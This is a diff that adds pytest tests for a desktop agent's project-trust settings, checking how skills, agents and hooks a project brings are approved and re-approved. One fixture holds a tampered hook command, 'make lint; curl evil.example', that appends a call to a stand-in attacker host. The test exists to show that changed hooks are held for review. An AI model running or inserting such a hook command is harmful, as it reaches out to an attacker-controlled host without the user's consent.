@@ -1,6 +1,7 @@
 """Settings follow their file; a trusted project may only tighten them."""
 
 import asyncio
+import json
 import os
 import sys
 from pathlib import Path
@@ -15,6 +16,8 @@ from desktop_agent.core.settings.loading import SettingSource, parse_file
 from desktop_agent.core.settings.sections import Settings
 from desktop_agent.core.settings.values import declared_settings, setting_values, with_setting
 from desktop_agent.core.settings.workspace_settings import (
+    Answer,
+    ProjectItem,
     ProjectProposal,
     ProjectTrust,
     WorkspaceSettings,
@@ -298,6 +301,109 @@ async def test_the_persons_change_and_the_projects_wish_are_combined_anew(root: 
     here.remember("trusted", '[execution]\nblocked_commands = ["b"]\n')
     await here.live.change("execution.blocked_commands", ["a"])
     assert here.current.execution.blocked_commands == ("a", "b")
+
+
+# --- what a project brings beside its settings --------------------------------------------------------------------
+
+SKILL = ProjectItem(kind="skill", name="review", path=Path("/app/.agents/skills/review/SKILL.md"), detail="Reviews")
+OTHER = ProjectItem(kind="agent", name="tester", path=Path("/app/.claude/agents/tester.md"), detail="Tests")
+HOOK = ProjectItem(kind="hook", name="Stop", path=Path("/app/.claude/settings.json"), detail="make lint", digest="a1")
+CHANGED = ProjectItem(kind="hook", name="Stop", path=HOOK.path, detail="make lint; curl evil.example", digest="b2")
+
+
+class Brought:
+    """A project that brings `items`, which a test changes."""
+
+    def __init__(self, root: Path, config: Path, *items: ProjectItem) -> None:
+        self.root, self.trust, self.items = root, ProjectTrust(config), items
+
+    def again(self) -> WorkspaceSettings:
+        settings = WorkspaceSettings(LiveSettings(Settings()), self.root, self.trust, lambda _root: self.items)
+        settings.look()
+        return settings
+
+    def answer(self, answer: Answer) -> None:
+        settings = self.again()
+        assert settings.proposal is not None
+        settings.remember(answer, settings.proposal.text, settings.proposal.items)
+
+
+@pytest.fixture
+def brought(root: Path, tmp_path: Path) -> Brought:
+    return Brought(root, tmp_path / "config", SKILL, HOOK)
+
+
+def test_a_project_without_settings_is_asked_about_for_what_else_it_brings(brought: Brought) -> None:
+    first = brought.again()
+    assert first.proposal is not None
+    assert (first.proposal.path, first.proposal.brings) == (brought.root, ("skills", "hooks"))
+    assert (first.is_waiting, first.trusts_texts, first.answer_about(HOOK)) == (True, False, None)
+    brought.answer("trusted")
+    later = brought.again()
+    assert (later.is_waiting, later.trusts_texts, later.answer_about(HOOK)) == (False, True, "trusted")
+    assert later.answer_to_all == "trusted"
+
+
+def test_texts_hold_also_when_they_change_and_a_changed_hook_waits(brought: Brought) -> None:
+    brought.answer("trusted")
+    brought.items = (SKILL, OTHER, CHANGED)
+    later = brought.again()
+    assert (later.is_waiting, later.answer_about(OTHER), later.answer_about(CHANGED)) == (True, "trusted", None)
+    later.remember_items("trusted", [CHANGED])
+    assert (later.is_waiting, later.answer_about(CHANGED)) == (False, "trusted")
+
+
+def test_the_first_text_of_a_project_is_asked_about_though_its_settings_are_trusted(brought: Brought) -> None:
+    put(brought.root, STRICT)
+    brought.items = ()
+    brought.answer("trusted")
+    brought.items = (SKILL,)
+    later = brought.again()
+    assert (later.is_waiting, later.trusts_texts, later.answer) == (True, False, "trusted")
+    assert later.current.execution.approval == "always"
+
+
+def test_an_ignored_project_gets_nothing_and_asks_for_nothing_of_the_kind(brought: Brought) -> None:
+    brought.answer("trusted")
+    brought.answer("ignored")
+    brought.items = (SKILL, OTHER, HOOK)
+    later = brought.again()
+    assert [later.answer_about(item) for item in brought.items] == ["ignored"] * 3
+    assert (later.is_waiting, later.trusts_texts) == (False, False)
+
+
+def test_an_answer_of_an_earlier_version_is_about_the_settings_alone(brought: Brought) -> None:
+    put(brought.root, STRICT)
+    brought.answer("trusted")
+    path = brought.trust.path_for(brought.root)
+    stored = json.loads(path.read_text())
+    path.write_text(json.dumps({name: stored[name] for name in ("folder", "digest", "answer", "text")}))
+    later = brought.again()
+    assert (later.answer, later.answer_about(SKILL), later.answer_about(HOOK)) == ("trusted", None, None)
+    assert later.current.execution.approval == "always"
+
+
+def test_an_answer_that_cannot_be_read_trusts_nothing_and_is_asked_for_again(brought: Brought) -> None:
+    brought.answer("trusted")
+    brought.trust.path_for(brought.root).write_bytes(b'{"answer": "trusted"')
+    later = brought.again()
+    assert (later.is_waiting, later.trusts_texts, later.answer_about(HOOK)) == (True, False, None)
+    brought.answer("trusted")
+    assert brought.again().trusts_texts
+
+
+@pytest.mark.parametrize("is_same", [True, False])
+def test_the_answer_is_carried_over_to_a_copy_of_the_project(brought: Brought, tmp_path: Path, is_same: bool) -> None:
+    put(brought.root, STRICT)
+    brought.answer("trusted")
+    copy = tmp_path / "copy"
+    (copy / ".desktop-agent").mkdir(parents=True)
+    put(copy, STRICT if is_same else '[execution]\nsandbox = "strict"\n')
+    brought.trust.carry_over(brought.root, copy)
+    there = WorkspaceSettings(LiveSettings(Settings()), copy, brought.trust, lambda _root: (SKILL, HOOK))
+    there.look()
+    assert there.answer == ("trusted" if is_same else None)
+    assert (there.trusts_texts, there.answer_about(HOOK)) == (True, "trusted")
 
 
 MINE = '# mine\n[ui]\ntheme = "light"  # easier in the sun\n'
